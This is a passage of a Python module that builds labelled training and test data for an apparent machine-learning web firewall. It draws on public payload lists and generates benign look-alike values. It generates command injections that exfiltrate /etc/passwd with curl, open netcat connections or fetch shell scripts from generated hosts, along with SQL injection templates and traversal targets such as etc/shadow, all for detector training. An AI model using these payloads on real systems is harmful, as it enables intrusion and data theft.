"""Labelled input values for training and evaluating the attack model.

Reads the public collections laid out as in the project's ``shared/datasets``
folder (see its README for sources and licences) and a few generated benign
sets. Every sample carries its source, so that splits are made by source and
the test split stays untouched by training.
"""

from __future__ import annotations

import csv
import gzip
import json
import random
import re
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from mlwaf.model import FAMILIES
from mlwaf.request import Arg, Request, parse_urlencoded, url_decode
from mlwaf.training.traffic import benign_values, label

_HTTPPARAMS_LABELS = {"norm": "benign", "sqli": "sqli", "xss": "xss", "cmdi": "cmdi", "path-traversal": "traversal"}
# (folder glob under the dataset root, family)
_WORDLISTS = (
    ("payloadsallthethings/SQL Injection/**/*", "sqli"),
    ("payloadsallthethings/XSS Injection/**/*", "xss"),
    ("payloadsallthethings/Command Injection/**/*", "cmdi"),
    ("payloadsallthethings/Directory Traversal/**/*", "traversal"),
    ("payloadsallthethings/File Inclusion/**/*", "traversal"),
    ("fuzzdb/attack/sql-injection/**/*.txt", "sqli"),
    ("fuzzdb/attack/xss/**/*.txt", "xss"),
    ("fuzzdb/attack/os-cmd-execution/**/*.txt", "cmdi"),
    ("fuzzdb/attack/path-traversal/**/*.txt", "traversal"),
    ("fuzzdb/attack/lfi/**/*.txt", "traversal"),
    ("mgm-waf-payloads/nuclei/payloads/sqli/true-positives.txt", "sqli"),
    ("mgm-waf-payloads/nuclei/payloads/xss/true-positives.txt", "xss"),
    ("mgm-waf-payloads/nuclei/payloads/cmdexe/true-positives.txt", "cmdi"),
    ("mgm-waf-payloads/nuclei/payloads/traversal/true-positives.txt", "traversal"),
)


# Wordlists mix real payloads with bare command names and file names that are only
# dangerous in a specific context ("trace", "index.php"), and fuzzdb's XSS lists carry
# their vectors' descriptions ("Author Name: OWASP", "URL Encoding"). A line counts as an
# attack of its family only if it carries that family's mark.
_MARKS = {
    "xss": re.compile(r"""[<>"'`(){}\[\];=\\]|javascript|vbscript|&#|%3c|%22|%27|%28"""),
    # a shell metacharacter, or a command that takes its target: a binary's path, a code
    # runner, a newline as the lists spell it, a command word with a flag, path or drive
    "cmdi": re.compile(
        r"[;|&`$<>\n]|%0a|%3b|%7c|%26|\\n|^/(usr/)?s?bin/|\b(eval|exec|system)\(|^[a-z]+[ +]+(-|/|[a-z]:)"
    ),
    "traversal": re.compile(r"\.\.|%2e|%c0|%c1|%u|%25|://|%00|\x00|\\0|/etc/|/proc/|win\.ini|boot\.ini|system32"),
}


def marked(text: str, family: str) -> bool:
    """Whether the text carries its family's mark (families without one always do)."""
    mark = _MARKS.get(family)
    return mark is None or mark.search(text.lower()) is not None


@dataclass(frozen=True)
class Sample:
    text: str
    family: str
    source: str


# Fuzzing templates name their target with a placeholder ("/../../{FILE}", "; {cmd}"), which
# a fuzzer fills in before it sends anything. Both sides' are filled in (the choice depends
# only on the template), so that the model learns and is tested on what reaches a server.
_PLACEHOLDER = re.compile(r"\{(file|cmd)\}", re.IGNORECASE)
_TARGETS = {
    "file": (
        *("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "var/log/apache2/access.log"),
        *("windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config"),
    ),
    "cmd": ("id", "cat /etc/passwd", "uname -a", "whoami", "ls -la /", "ping -c 3 127.0.0.1"),
}


def filled(sample: Sample) -> Sample:
    """The sample with its template placeholders replaced by a target, as a fuzzer would."""
    pick = zlib.crc32(sample.text.encode())

    def target(match: re.Match[str]) -> str:
        choices = _TARGETS[match.group(1).lower()]
        return choices[pick % len(choices)]

    text = _PLACEHOLDER.sub(target, sample.text)
    return sample if text == sample.text else Sample(text, sample.family, sample.source)


def _lines(path: Path) -> Iterator[str]:
    for raw in path.read_text(encoding="utf-8", errors="replace").splitlines():
        line = raw.strip()
        if line and not line.startswith("#"):
            yield line


def httpparams(root: Path, part: str) -> list[Sample]:
    with (root / "httpparams" / f"payload_{part}.csv").open(encoding="utf-8", errors="replace", newline="") as f:
        return [
            Sample(row["payload"], _HTTPPARAMS_LABELS[row["attack_type"]], f"httpparams-{part}")
            for row in csv.DictReader(f)
            if row.get("attack_type") in _HTTPPARAMS_LABELS and row.get("payload")
        ]


def wordlists(root: Path) -> list[Sample]:
    out = []
    for pattern, family in _WORDLISTS:
        for path in sorted(root.glob(pattern)):
            if path.is_file() and path.suffix.lower() not in {".md", ".doc"} and "README" not in path.name:
                out += [Sample(text, family, pattern.split("/", 1)[0]) for text in _lines(path) if marked(text, family)]
    return out


# payloads-extra's repositories held back for the test; the others train (PayloadsAllTheThings's
# lines sit with the rest of that collection, on the training side).
EXTRA_TEST_REPOS = frozenset(
    {
        *("hahwul/dalfox", "payloadbox/xss-payload-list", "payloadbox/command-injection-payload-list"),
        *("s0md3v/AwesomeXSS", "s0md3v/XSStrike", "terjanq/Tiny-XSS-Payloads", "0xInfection/Awesome-WAF"),
        *("InfoSecWarrior/Offensive-Payloads", "SonarSource/argument-injection-vectors"),
    }
)


def extra_payloads(root: Path) -> tuple[list[Sample], list[Sample]]:
    """payloads-extra's attacks of the families we model, split by repository: (train, test)."""
    path = root / "payloads-extra" / "payloads.jsonl.gz"
    if not path.exists():
        return [], []
    train: list[Sample] = []
    test: list[Sample] = []
    for line in gzip.decompress(path.read_bytes()).decode("utf-8").splitlines():
        row = json.loads(line)
        family, text = row.get("family"), str(row.get("text") or "").strip()
        if family not in FAMILIES or family == "benign" or not text or not marked(text, family):
            continue
        repo = str(row.get("source", "")).split(":", 1)[0]
        side = test if repo in EXTRA_TEST_REPOS else train
        side.append(Sample(text, family, f"payloads-extra:{repo}"))
    return train, test


CSIC_TEST_EVERY = 5  # every fifth CSIC request is held back for the per-request test


@dataclass(frozen=True)
class HttpRequest:
    """A request as the analyzer decodes it: method, decoded path, named query, form and cookie values."""

    method: str
    path: str
    query: tuple[tuple[str, str], ...] = ()
    form: tuple[tuple[str, str], ...] = ()
    cookies: tuple[tuple[str, str], ...] = ()

    @property
    def values(self) -> tuple[str, ...]:
        """What the model scores: the path and every argument and cookie value."""
        return (self.path, *(v for part in (self.query, self.form, self.cookies) for _, v in part))

    def as_request(self) -> Request:
        """The analyzer's view of this request (as the decision engine and the profile see it)."""
        parts = (("query", self.query), ("body", self.form), ("cookie", self.cookies))
        args = [Arg(source, name, value) for source, part in parts for name, value in part]
        return Request(method=self.method, path=self.path, args=args)


def _csic_request(method: str, target: str, body: str, cookie: str) -> HttpRequest:
    path, _, query = target.split("://", 1)[-1].partition("/")[2].partition("?")
    pairs = [c.strip().partition("=") for c in cookie.split(";") if c.strip()]
    return HttpRequest(
        method,
        url_decode("/" + path, plus_is_space=False),
        tuple((a.name, a.value) for a in parse_urlencoded(query, "query")),
        tuple((a.name, a.value) for a in parse_urlencoded(body, "body")),
        tuple((name, value) for name, _, value in pairs),
    )


def csic_requests(root: Path) -> list[HttpRequest]:
    """CSIC 2010's normal requests, in file order: request line, headers, a blank line, the body if any."""
    text = gzip.decompress((root / "csic2010" / "normalTrafficTraining.txt.gz").read_bytes()).decode("latin-1")
    raw: list[dict[str, str]] = []
    in_headers = False
    for line in text.splitlines():
        words = line.split(" ")
        if len(words) == 3 and words[2].startswith("HTTP/"):
            raw.append({"method": words[0], "target": words[1], "body": "", "cookie": ""})
            in_headers = True
        elif not raw:
            continue
        elif in_headers and line.lower().startswith("cookie:"):
            raw[-1]["cookie"] = line.split(":", 1)[1]
        elif in_headers and not line.strip():
            in_headers = False
        elif not in_headers and line.strip() and not raw[-1]["body"]:
            raw[-1]["body"] = line.strip()
    return [_csic_request(r["method"], r["target"], r["body"], r["cookie"]) for r in raw]


def csic_split(root: Path) -> tuple[list[HttpRequest], list[HttpRequest]]:
    """CSIC requests for training and the held-back ones (every CSIC_TEST_EVERY-th) for testing."""
    requests = csic_requests(root)
    test = requests[CSIC_TEST_EVERY - 1 :: CSIC_TEST_EVERY]
    train = [r for i, r in enumerate(requests) if i % CSIC_TEST_EVERY != CSIC_TEST_EVERY - 1]
    return train, test


def csic_benign(root: Path) -> list[Sample]:
    """Distinct non-empty values of the CSIC requests on the training side."""
    values = {value for request in csic_split(root)[0] for value in request.values if value}
    return [Sample(v, "benign", "csic2010") for v in sorted(values)]


def gotestwaf(root: Path) -> list[Sample]:
    """gotestwaf's attack payloads (families we model) and its benign texts."""
    families = {
        "sql-injection": "sqli",
        "xss-scripting": "xss",
        "path-traversal": "traversal",
        "shell-injection": "cmdi",
        "rce": "cmdi",
        "rce-urlparam": "cmdi",
        "community-sqli": "sqli",
        "community-xss": "xss",
        "community-lfi": "traversal",
        "community-rce": "cmdi",
        "texts": "benign",
    }
    out = []
    for path in sorted((root / "gotestwaf-testcases" / "testcases").glob("*/*.yml")):
        family = families.get(path.stem)
        if family is None:
            continue
        in_payload = False
        for raw in path.read_text(encoding="utf-8", errors="replace").splitlines():
            if not raw.startswith(" "):
                in_payload = raw.startswith("payload:")
                continue
            item = raw.strip()
            if in_payload and item.startswith("- "):
                text = item[2:].strip()
                if len(text) >= 2 and text[0] == text[-1] and text[0] in "'\"":
                    text = text[1:-1].replace("''", "'") if text[0] == "'" else text[1:-1].replace('\\"', '"')
                out.append(Sample(text, family, "gotestwaf"))
    return out


def mgm_lookalikes(root: Path) -> list[Sample]:
    out = []
    for path in sorted((root / "mgm-waf-payloads" / "nuclei" / "payloads").glob("*/false-positives.txt")):
        out += [Sample(text, "benign", "mgm-lookalikes") for text in _lines(path)]
    return out


_ATTACK_VOCABULARY = (
    "select union drop table insert update delete from where order by group having and or not null like "
    "script alert image onload error document window cat echo ping ls rm etc passwd bin shell sleep"
)
_PLAIN_VOCABULARY = (
    "blue red large small shoes shirt london paris new york book music travel price cheap best review "
    "the a of to in is for on with my your our team product service help account password reset login "
    "contact support about news page search result hello world coffee tea garden home office "
    "index admin login logout install config api v1 v2 static assets images img css js user users profile cart "
    "checkout settings dashboard upload download files docs wp content themes public private data feed rss"
)
_PLAIN_WORDS = tuple(_PLAIN_VOCABULARY.split(" "))
_WORDS = (*_ATTACK_VOCABULARY.split(" "), *_PLAIN_WORDS)
_EXTENSIONS = ("", "/", ".php", ".html", ".jsp", ".asp", ".css", ".js", ".png", ".json", ".xml", ".txt", ".log")
_NAMES = ("O'Brien", "D'Angelo", "Anne-Marie", "José", "Zoë", "Müller", "Nguyễn", "Ólafur", "O'Neil", "Smith & Sons")


def generated_benign(count: int, seed: int) -> list[Sample]:
    """Ordinary form and API values, including ones that share words and signs with attacks."""
    rng = random.Random(seed)

    def phrase() -> str:
        return " ".join(rng.choice(_WORDS) for _ in range(rng.randint(1, 8)))

    makers = (
        phrase,
        lambda: phrase().capitalize() + rng.choice((".", "?", "!", "...", " :)", "")),
        lambda: rng.choice(_NAMES),
        lambda: f"{rng.choice(_WORDS)}.{rng.choice(_WORDS)}{rng.randint(1, 99)}@example.{rng.choice(('com', 'org'))}",
        lambda: f"https://www.example.com/{rng.choice(_WORDS)}/{rng.choice(_WORDS)}?id={rng.randint(1, 9999)}",
        lambda: f"{rng.randint(2000, 2030)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
        lambda: f"+{rng.randint(1, 99)} {rng.randint(100, 999)} {rng.randint(1000, 9999)}",
        lambda: "".join(rng.choice("abcdef0123456789") for _ in range(rng.choice((8, 32, 40, 64)))),
        lambda: f"{rng.randint(1, 500)} {rng.choice(_WORDS)} st, apt {rng.randint(1, 40)}",
        lambda: f"{rng.choice(_WORDS)}, {rng.choice(_WORDS)} & {rng.choice(_WORDS)} ({rng.randint(1, 20)})",
        lambda: f"{rng.randint(1, 100)}% off - {phrase()}",
        lambda: f"/{rng.choice(_WORDS)}/{rng.choice(_WORDS)}.html",
        lambda: "/" + "/".join(rng.choice(_WORDS) for _ in range(rng.randint(0, 3))) + rng.choice(_EXTENSIONS),
        lambda: f"<p>{phrase()} <b>{rng.choice(_WORDS)}</b></p>",
        lambda: f'{{"{rng.choice(_WORDS)}": "{phrase()}", "n": {rng.randint(0, 99)}}}',
        lambda: f"{rng.choice(_WORDS)}_{rng.choice(_WORDS)}",
        lambda: str(rng.randint(0, 10 ** rng.randint(1, 12))),
        lambda: f"I'm looking for a {rng.choice(_WORDS)}; it's {rng.choice(_WORDS)}-ish, isn't it?",
        lambda: f"{rng.choice(_WORDS)}={rng.randint(1, 9)} {rng.choice(('and', 'or'))} {rng.choice(_WORDS)}",
        # markup that APIs and rich-text fields carry: XML and SOAP documents, harmless HTML
        lambda: (
            f'<?xml version="1.0" encoding="UTF-8"?><{rng.choice(_WORDS)}>'
            f'<{rng.choice(_WORDS)} id="{rng.randint(1, 999)}">{phrase()}'
            f"</{rng.choice(_WORDS)}></{rng.choice(_WORDS)}>"
        ),
        lambda: (
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
            f"<{rng.choice(_WORDS)}><{rng.choice(_WORDS)}>{rng.randint(1, 9999)}</{rng.choice(_WORDS)}>"
            f"</{rng.choice(_WORDS)}></soap:Body></soap:Envelope>"
        ),
        lambda: f'<a href="https://www.example.com/{rng.choice(_WORDS)}">{phrase()}</a>',
        lambda: f"<ul><li>{phrase()}</li><li>{phrase()}</li></ul>",
        lambda: f'<img src="/images/{rng.choice(_WORDS)}.png" alt="{phrase()}">',
    )
    return [Sample(rng.choice(makers)(), "benign", "generated") for _ in range(count)]


_SEPARATORS = (";", "|", "||", "&", "&&", "\n", "%0a", "`", "$(")
_CALLOUTS = (
    *("nslookup {host}", "dig {host}", "host {host}", "getent hosts {host}", "ping -c 1 {host}", "ping -n 1 {host}"),
    *("curl http://{host}/{word}", "wget http://{host}/{word}.sh", "curl -d @/etc/passwd {host}", "nc {host} 4444"),
)
_SUBSTITUTIONS = {"`": "`{}`", "$(": "$({})"}  # separators that wrap the command instead
_CLOSERS = ("", "", "&", ";", "|", "#")
_TLDS = ("com", "net", "org", "io", "xyz", "site")


def generated_commands(count: int, seed: int) -> list[Sample]:
    """Blind command injections that call out to the attacker's host (a DNS lookup, a ping,
    a download), which the payload lists hold few of: a separator, a network command with a
    generated host name, sometimes a closing separator, spaces sometimes written another way."""
    rng = random.Random(seed)

    def host() -> str:
        label = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(6, 20)))
        middle = f".{rng.choice(_WORDS)}" if rng.random() < 0.7 else ""
        return f"{label}{middle}.{rng.choice(_TLDS)}"

    out = []
    for _ in range(count):
        separator = rng.choice(_SEPARATORS)
        command = rng.choice(_CALLOUTS).format(host=host(), word=rng.choice(_WORDS))
        wrapper = _SUBSTITUTIONS.get(separator)
        body = wrapper.format(command) if wrapper else separator + command + rng.choice((*_CLOSERS, separator))
        if rng.random() < 0.3:
            body = body.replace(" ", rng.choice(("+", "${IFS}", "%20", "\t")))
        prefix = rng.choice(("", "", "127.0.0.1", "1", rng.choice(_WORDS)))
        out.append(Sample(prefix + body, "cmdi", "generated-commands"))
    return out


TRAINING_REFERENCES = 6000  # generated URLs, paths, names and lists on the training side
_FOLDERS = ("Documents", "Desktop", "Downloads", "Pictures", "Music", "Videos", "OneDrive")
_DOCUMENTS = ("docx", "pdf", "xlsx", "jpg", "png", "txt", "csv", "zip", "pptx", "mp3")


def generated_references(count: int, seed: int, source: str = "generated-references") -> list[Sample]:
    """Benign values that quote other syntax: URLs with several query parameters (a return
    address, a shared link), a browser's upload path, relative asset paths, company names and
    lists with ``&`` and ``;``, comparisons with ``<`` and ``>``, nested JSON. Attacks use the
    same signs, so a model that never saw them blocks a user's link or file name."""
    rng = random.Random(seed)

    def word() -> str:
        return rng.choice(_PLAIN_WORDS)

    def query() -> str:
        pairs = []
        for _ in range(rng.randint(1, 5)):
            value = rng.choice(
                (word(), str(rng.randint(0, 9999)), "+".join(word() for _ in range(2)), f"{word()}%20{word()}")
            )
            pairs.append(f"{rng.choice((word(), word() + '_' + word()))}={value}")
        return "&".join(pairs)

    def url() -> str:
        host = f"{rng.choice(('www.', 'api.', 'shop.', 'm.', ''))}{word()}{word()}.{rng.choice(_TLDS)}"
        port = rng.choice(("", "", "", f":{rng.choice((8080, 8443, 3000))}"))
        path = "/".join(rng.choice((word(), str(rng.randint(1, 999)))) for _ in range(rng.randint(0, 4)))
        fragment = rng.choice(("", "", f"#{word()}", f"#/{word()}/{rng.randint(1, 99)}"))
        return f"{rng.choice(('https', 'http'))}://{host}{port}/{path}{rng.choice(_EXTENSIONS)}?{query()}{fragment}"

    def name() -> str:
        return rng.choice((word().capitalize(), rng.choice(_NAMES), word().upper()[:3]))

    def document() -> str:
        stem = rng.choice((word(), str(rng.randint(1, 2030))))
        return f"{word()}{rng.choice(('', '_', '-', ' '))}{stem}.{rng.choice(_DOCUMENTS)}"

    def compare() -> str:
        left = rng.choice((word(), str(rng.randint(0, 99))))
        return f"{left} {rng.choice(('<', '>', '<=', '>='))} {rng.randint(0, 500)}"

    makers = (
        url,
        lambda: f"/{word()}/{word()}?{query()}",
        lambda: f"?{query()}",
        lambda: f"{rng.choice('CDE')}:\\Users\\{word()}\\{rng.choice(_FOLDERS)}\\{document()}",
        lambda: f"C:\\fakepath\\{document()}",
        lambda: f"{rng.choice(('./', 'assets/', 'static/', './img/', 'media/'))}{word()}{rng.choice(_EXTENSIONS)}",
        lambda: f"{name()} & {name()}" + rng.choice(("", f"; {name()} & {name()}", f"; {name()}", " Ltd.", " (UK)")),
        lambda: f"{word().upper()[:1]}&{word().upper()[:1]}" + rng.choice(("", f" {word()}", f"; {word()}")),
        lambda: "; ".join(name() for _ in range(rng.randint(2, 5))),
        compare,
        lambda: f"{word().capitalize()} {compare()} {word()}",
        lambda: f'{{"{word()}": [{rng.randint(0, 99)}], "{word()}": {{"{word()}": "{word()} {word()}"}}}}',
        lambda: f'[{{"id": {rng.randint(1, 999)}, "{word()}": "{url()}"}}]',
    )
    return [Sample(rng.choice(makers)(), "benign", source) for _ in range(count)]


_TABLES = ("users", "user", "accounts", "admin", "members", "customers", "orders", "login", "information_schema.tables")
_COLUMNS = ("password", "passwd", "pass", "username", "user", "email", "hash", "name", "table_name", "@@version")
_SQL_OPENERS = ("1", "-1", "0", "1'", '1"', "'", "1)", "1')", "admin'", "x'")
_SQL_BODIES = (
    " union select {column} from {table}",
    " union all select {column},{column2} from {table}",
    " union select null,{column},null",
    " and (select count(*) from {table})>0",
    " or 1=1",
    " or '1'='1",
    " and 1=2",
    " and sleep({n})",
    "; drop table {table}",
    "; select {column} from {table}",
    " order by {n}",
)
_SQL_CLOSERS = ("--", "-- -", "#", "/*", "", ";--")


def generated_queries(count: int, seed: int) -> list[Sample]:
    """Textbook SQL injections with common table and column names (``1 union select
    password from users--``, ``admin' or '1'='1``): the lists hold these in few spellings,
    and a model that learned the words from benign sentences can let the plainest through."""
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        body = rng.choice(_SQL_BODIES).format(
            column=rng.choice(_COLUMNS), column2=rng.choice(_COLUMNS), table=rng.choice(_TABLES), n=rng.randint(1, 12)
        )
        text = rng.choice(_SQL_OPENERS) + body + rng.choice(_SQL_CLOSERS)
        if rng.random() < 0.3:
            text = text.replace(" ", rng.choice(("/**/", "+", "%20")))
        out.append(Sample(text, "sqli", "generated-queries"))
    return out


_B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
# names of the placeholders ad servers, analytics tags and recorded test fixtures carry
_MACROS = (
    *("na_id", "na_da", "uid", "vguid", "timestamp", "cachebuster", "random", "gdpr", "gdpr_consent", "us_privacy"),
    *("advertising_id", "device_id", "user_id", "campaign_id", "creative_id", "placement_id", "site_id", "page_url"),
    *("referrer", "click_url", "test_subreddit", "test_user", "username", "account_id", "token", "api_key", "session"),
    *("width", "height", "lat", "lon", "country", "lang", "ts", "order_id", "item_id", "price", "currency"),
)


def generated_tokens(count: int, seed: int, source: str = "generated-tokens") -> list[Sample]:
    """Machine-made values that fill real requests: session ids, CSRF tokens,
    UUIDs, JWTs, hashes, base64 blobs, timestamps, coordinates, and the runs of
    one key that people type into test forms. Random
    strings contain look-alikes of attack n-grams (``0-0``, ``or``, ``..``) by
    chance, so a model that never saw them blocks a share of real users."""
    rng = random.Random(seed)

    def text(alphabet: str, low: int, high: int) -> str:
        return "".join(rng.choice(alphabet) for _ in range(rng.randint(low, high)))

    def hexa(n: int) -> str:
        return "".join(rng.choice("0123456789abcdef") for _ in range(n))

    def uuid() -> str:
        return "-".join(hexa(n) for n in (8, 4, 4, 4, 12))

    def macro() -> str:
        name = rng.choice(_MACROS)
        name = name.upper() if rng.random() < 0.5 else name
        return rng.choice(("<{}>", "%%{}%%", "[{}]", "{{{}}}", "__{}__", "#{}#")).format(name)

    makers = (
        lambda: hexa(rng.choice((8, 16, 24, 32, 40, 64))),
        lambda: hexa(rng.choice((16, 32))).upper(),
        uuid,
        lambda: "{" + uuid().upper() + "}",
        lambda: f"{rng.randint(0, 99)}-{hexa(rng.choice((6, 8, 12)))}",
        lambda: f"{rng.choice(('sess', 'tok', 'csrf', 'req', 'v2', 'id', 'sk'))}{rng.choice('_-.:')}{hexa(24)}",
        lambda: text(_B64 + "+/", 16, 64) + rng.choice(("", "=", "==")),
        lambda: text(_B64 + "-_", 16, 64),
        lambda: ".".join(text(_B64 + "-_", 16, 60) for _ in range(3)),  # a JWT
        lambda: (
            f"{rng.randint(2000, 2030)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}T"
            f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"
            + rng.choice(("Z", ".123Z", "+02:00", "-05:00"))
        ),
        lambda: str(rng.randint(1_000_000_000, 1_999_999_999)) + rng.choice(("", "000", f".{rng.randint(0, 999)}")),
        lambda: f"{rng.uniform(-90, 90):.6f},{rng.uniform(-180, 180):.6f}",
        lambda: f"{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}",
        lambda: "-".join(text(_B64[:36], 4, 6) for _ in range(rng.randint(2, 5))),
        lambda: f"GA1.{rng.randint(1, 3)}.{rng.randint(10**8, 10**10)}.{rng.randint(10**9, 2 * 10**9)}",
        # short values: single letters and digits, codes, sort keys, placeholders
        lambda: text(_B64, 1, 3),
        lambda: rng.choice("-_.*+/,:#@!?~="),
        # what people type into test forms: runs of one key and keyboard mashing
        lambda: rng.choice("abcdefghijklmnopqrstuvwxyz0123456789-_=*#+~ ") * rng.randint(3, 80),
        lambda: rng.choice(("asdf", "qwerty", "test", "abc", "123", "lol", "ha", "zz", "xo")) * rng.randint(2, 12),
        # placeholders that ad, analytics and test tools send unreplaced, and their lists
        macro,
        lambda: f"{rng.choice(('uid', 'id', 'ref', 'src'))}:{macro()}",
        lambda: ",".join(macro() for _ in range(rng.randint(2, 4))),
        # structured lists: A/B buckets, sort keys, separators of one tool or another
        lambda: ",".join(f"{i}={rng.randint(0, 9999)}" for i in range(rng.randint(2, 14))),
        lambda: ";".join(f"{rng.choice(_B64[:26])}={rng.choice(_B64[:26])}" for _ in range(rng.randint(1, 3))),
        lambda: f"{rng.choice('NMSD')};O={rng.choice('AD')}",
        lambda: rng.choice("^|~:").join(str(rng.randint(0, 99)) for _ in range(rng.randint(2, 6))),
        lambda: rng.choice(("[[", "[")) + text(_B64, 1, 6) + rng.choice(("]]", "]")),
    )
    return [Sample(rng.choice(makers)(), "benign", source) for _ in range(count)]


_PLATFORMS = (
    *("Windows NT 10.0; Win64; x64", "Windows NT 6.1; WOW64", "Windows NT 6.3; Win64; x64", "X11; Linux x86_64"),
    *("Macintosh; Intel Mac OS X 10_15_7", "Macintosh; Intel Mac OS X 13_4", "X11; Ubuntu; Linux x86_64"),
    *("X11; Fedora; Linux x86_64", "X11; CrOS x86_64 15359.58.0", "Linux; Android 13; Pixel 7"),
    *("Linux; Android 10; K", "Linux; Android 12; SM-G991B", "iPhone; CPU iPhone OS 17_1 like Mac OS X"),
    *("iPad; CPU OS 16_6 like Mac OS X", "X11; FreeBSD amd64", "Windows NT 10.0; WOW64"),
)
_CRAWLERS = (
    *("Googlebot/2.1; +http://www.google.com/bot.html", "bingbot/2.0; +http://www.bing.com/bingbot.htm"),
    *("YandexBot/3.0; +http://yandex.com/bots", "DuckDuckBot/1.1; +http://duckduckgo.com/duckduckbot.html"),
    *("AhrefsBot/7.0; +http://ahrefs.com/robot/", "Applebot/0.1; +http://www.apple.com/go/applebot"),
)
_TOOLS = (
    *("curl", "Wget", "python-requests", "Go-http-client", "okhttp", "Java", "PostmanRuntime", "axios"),
    *("node-fetch", "libwww-perl", "Dalvik", "Prometheus", "kube-probe", "ELB-HealthChecker", "Zabbix"),
)


def generated_agents(count: int, seed: int, source: str = "generated-agents") -> list[Sample]:
    """User-Agent headers as browsers, phones, crawlers, apps and tools send them: benign
    training values (the analyzer scores a User-Agent that is not plain) and, from another
    seed, a test of how the analyzer reads that header (``mlwaf evaluate``)."""
    rng = random.Random(seed)

    def version(parts: int) -> str:
        return ".".join(str(rng.randint(0, 120 if n == 0 else 9999 if n == 2 else 9)) for n in range(parts))

    def chrome(platform: str) -> str:
        extra = rng.choice(("", "", f" Edg/{version(4)}", f" OPR/{version(4)}", f" YaBrowser/{version(4)}"))
        mobile = " Mobile" if "Android" in platform else ""
        engine = "AppleWebKit/537.36 (KHTML, like Gecko)"
        return f"Mozilla/5.0 ({platform}) {engine} Chrome/{version(4)}{mobile} Safari/537.36{extra}"

    def firefox(platform: str) -> str:
        major = rng.randint(3, 125)
        return f"Mozilla/5.0 ({platform}; rv:{major}.0) Gecko/20100101 Firefox/{major}.0"

    def safari(platform: str) -> str:
        return (
            f"Mozilla/5.0 ({platform}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{version(2)}"
            + rng.choice(("", " Mobile/15E148"))
            + " Safari/604.1"
        )

    makers = (
        lambda: chrome(rng.choice(_PLATFORMS)),
        lambda: firefox(rng.choice(_PLATFORMS)),
        lambda: safari(rng.choice(_PLATFORMS)),
        lambda: f"Mozilla/5.0 ({rng.choice(_PLATFORMS)}; Trident/7.0; rv:11.0) like Gecko",
        lambda: f"Mozilla/4.0 (compatible; MSIE {rng.randint(6, 10)}.0; {rng.choice(_PLATFORMS)})",
        lambda: f"Mozilla/5.0 (compatible; {rng.choice(_CRAWLERS)})",
        lambda: f"{rng.choice(_TOOLS)}/{version(rng.randint(1, 3))}",
        lambda: f"{rng.choice(_TOOLS)}/{version(3)} ({rng.choice(_PLATFORMS)})",
        lambda: f"{rng.choice(_WORDS).capitalize()}App/{version(3)} ({rng.choice(_PLATFORMS)}; Scale/2.00)",
        lambda: f"Opera/9.80 ({rng.choice(_PLATFORMS)}; U; en) Presto/2.12.388 Version/12.16",
    )
    return [Sample(rng.choice(makers)(), "benign", source) for _ in range(count)]


TRAINING_AGENTS = 6000  # generated User-Agents on the training side
REAL_PER_FOLDER = 12000  # real benign inputs per dataset folder on the training side (mlwaf.training.traffic)
REAL_TEST_PER_FOLDER = 3000  # and on the test side, for the per-value test


def unseen_agents(seed: int) -> list[Sample]:
    """Generated User-Agents for the test, from another seed, less those the training side
    drew too (crawlers and tools repeat)."""
    drawn = {s.text for s in generated_agents(TRAINING_AGENTS, seed)}
    return [s for s in generated_agents(5000, seed + 1000, "generated-agents-test") if s.text not in drawn]


def real_agents(root: Path) -> list[Sample]:
    """The distinct User-Agent headers of real visitors: CSIC 2010's and the Iliou logs' people
    and bots (browsers all of them; the scanner logs are left out)."""
    agents: set[str] = set()
    for path in sorted((root / "webbot-iliou").glob("*/data/web_logs/*/*.log")):
        for line in path.read_text(errors="replace").splitlines():
            found = re.search(r'"([^"]*)"$', line)
            if found:
                agents.add(found.group(1))
    csic = root / "csic2010" / "normalTrafficTraining.txt.gz"
    if csic.exists():
        for line in gzip.decompress(csic.read_bytes()).decode("latin-1").splitlines():
            if line.lower().startswith("user-agent:"):
                agents.add(line.split(":", 1)[1].strip())
    return [Sample(agent, "benign", "real-agents") for agent in sorted(agents - {"", "-"})]


# Interface text that opens with, or holds, a word that SQL, the shell or JavaScript also use.
_UI_VERBS = (
    *("Select", "Order", "Update", "Delete", "Insert", "Drop", "Join", "Create", "Alter", "Grant", "Execute"),
    *("Sleep", "Echo", "Ping", "Alert", "Import", "Print", "Run", "Kill", "Find", "Sort", "Group", "Set", "Show"),
    *("Load", "Copy", "Move", "Limit", "Union", "Exec", "Script", "Cat", "Where", "From", "Like", "Having"),
)
_UI_LINKS = ("a", "an", "the", "your", "all", "my", "by", "to", "from", "one", "some", "this", "our", "any", "me", "up")
_UI_NOUNS = (
    *("box", "phone", "size", "colour", "date", "item", "items", "account", "name", "price", "newest", "file"),
    *("region",),
    *("store", "language", "seat", "plan", "email", "city", "option", "category", "rating", "details", "password"),
    *("station", "mode", "summary", "coin", "card", "time", "week", "list", "table", "team", "order", "writing"),
)
_AUTHORS = ("Jeremy McPeak", "J. Smith", "Ana García", "Li Wei", "O'Reilly Media", "Müller & Co")
_HTML_TAGS = ("p", "div", "span", "em", "strong", "b", "i", "h1", "h2", "h3", "blockquote", "code", "pre", "li", "td")


def generated_phrases(count: int, seed: int, source: str = "generated-phrases") -> list[Sample]:
    """What search boxes, buttons, titles and rich-text fields send: phrases that open with a
    word SQL or the shell also use (``Select a box``, ``Order by price``), titles with
    brackets and numbers (``Beginning JavaScript [5th Edition]``, ``(3)``), formatting HTML
    without anything active in it, and Markdown."""
    rng = random.Random(seed)

    def ui() -> str:
        words = [rng.choice(_UI_VERBS), rng.choice(_UI_LINKS), rng.choice(_UI_NOUNS)]
        if rng.random() < 0.4:
            words += [rng.choice(("and", "or", "by", "for", "with", "in")), rng.choice(_UI_NOUNS)]
        text = " ".join(words)
